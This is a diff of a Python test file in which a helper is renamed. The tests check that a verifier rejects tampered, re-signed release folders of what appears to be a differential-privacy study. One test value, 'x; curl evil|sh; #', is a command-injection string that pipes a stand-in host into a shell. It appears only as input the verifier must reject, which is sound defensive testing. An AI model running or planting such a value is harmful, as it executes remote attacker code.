@@ -61,7 +61,7 @@ def edited(name, change):
     return alter
 
 
-def messages(change):
+def record_with(change):
     return edited("study.json", change)
 
 
@@ -105,10 +105,10 @@ def other_terms(folder):
 
 
 ALTERED = [
-    (messages(gap_of_cedar), "says sites.cedar.gap.value"),
-    (messages(other_version), "gap.value .* .by fedcal 9.9, this is "),
-    (messages(lambda t: t["since"]["2026Q4"].update(why="of another kind")), "says .*why"),
-    (messages(lambda t: t["statement"].append("Nobody is harmed.")), "the statement is"),
+    (record_with(gap_of_cedar), "says sites.cedar.gap.value"),
+    (record_with(other_version), "gap.value .* .by fedcal 9.9, this is "),
+    (record_with(lambda t: t["since"]["2026Q4"].update(why="of another kind")), "says .*why"),
+    (record_with(lambda t: t["statement"].append("Nobody is harmed.")), "the statement is"),
     (lambda f: (f / "curve-1.svg").unlink(), "curve-1.svg is not what"),
     (release("release", counts=3.0), "the release gives"),
     (release("release", std=1.0), "the release's noise is"),
@@ -116,12 +116,12 @@ ALTERED = [
     (release("release", law="normal"), "the release's law is"),
     (release("release", privacy='["All is exact."]'), "the release's privacy is"),
     (release("earlier-2026Q4", std=0.001), "the release gives|is not the release of"),
-    (messages(lambda t: t.update(name="x; curl evil|sh; #")), "name of the quarter in"),
-    (messages(lambda t: t.update(date="1999-01-01")), "not on 1999-01-01"),
-    (messages(lambda t: t.update(spent=0.0, left=4.0)), "releases paid for is '0"),
-    (messages(lambda t: t["versions"].update(fedcal="1\nSigned.")), "list of versions is"),
-    (messages(lambda t: t["ledger"].update(project="x")), "ledger.project is 'x'"),
-    (messages(lambda t: t.update(since=5)), "does not hold"),
+    (record_with(lambda t: t.update(name="x; curl evil|sh; #")), "name of the quarter in"),
+    (record_with(lambda t: t.update(date="1999-01-01")), "not on 1999-01-01"),
+    (record_with(lambda t: t.update(spent=0.0, left=4.0)), "releases paid for is '0"),
+    (record_with(lambda t: t["versions"].update(fedcal="1\nSigned.")), "list of versions is"),
+    (record_with(lambda t: t["ledger"].update(project="x")), "ledger.project is 'x'"),
+    (record_with(lambda t: t.update(since=5)), "does not hold"),
     (swapped_roster, "the roster is"),
     (other_terms, "the "),
     (edited("ledger.json", lambda line: line.update(epsilon=0.5)), "ledger.json is not what"),
@@ -137,7 +137,7 @@ def test_what_was_altered_is_refused_although_it_is_signed_again(folder, alter, 
 
 
 def test_a_ledger_line_of_another_epsilon_is_not_that_of_the_terms(folder):
-    messages(lambda t: t["ledger"].update(epsilon=0.5))(folder)
+    record_with(lambda t: t["ledger"].update(epsilon=0.5))(folder)
     edited("ledger.json", lambda line: line.update(epsilon=0.5))(folder)
     write_signature(folder, KEY)
     refused("the ledger.epsilon is 0.5; by the terms it is 1", verify, folder)
@@ -192,14 +192,14 @@ def test_a_rehearsal_is_verified_and_reported_to_be_one(tmp_path):
     quarter(folder, STUDY, None, rehearsal=True, ledger={}, spent=0.0, left=4.0)
     assert "A rehearsal" in verify(folder)[0]
     shutil.copytree(folder, forged := tmp_path / "forged" / "r")
-    messages(lambda messages: messages.update(roster="0" * 64))(forged)
+    record_with(lambda t: t.update(roster="0" * 64))(forged)
     refused("roster", verify, forged)
     (folder / "signature.json").write_text("{}")
     refused("signature.json is not what", verify, folder)
     (folder / "signature.json").unlink()
     refused("a rehearsal is not signed", sign, folder, KEY)
     refused("is not the folder of a release", verify, tmp_path)
-    messages(gap_of_cedar)(folder)
+    record_with(gap_of_cedar)(folder)
     refused("sites.cedar", verify, folder)
 
 
@@ -220,11 +220,8 @@ def made_anew(folder, counts=lambda counts: None, **facts):
     content = json.loads((folder / "study.json").read_text())
     found = read_release(folder / "release.npz")
     counts(found.counts)
-    messages, text = (
-        replace(QuarterFacts.of(content), **facts),
-        (folder / "study.sealed").read_text(),
-    )
-    write_quarter(folder, STUDY, text, found, messages, {}, KEY)
+    new = replace(QuarterFacts.of(content), **facts)
+    write_quarter(folder, STUDY, (folder / "study.sealed").read_text(), found, new, {}, KEY)
 
 
 def count(site, value):
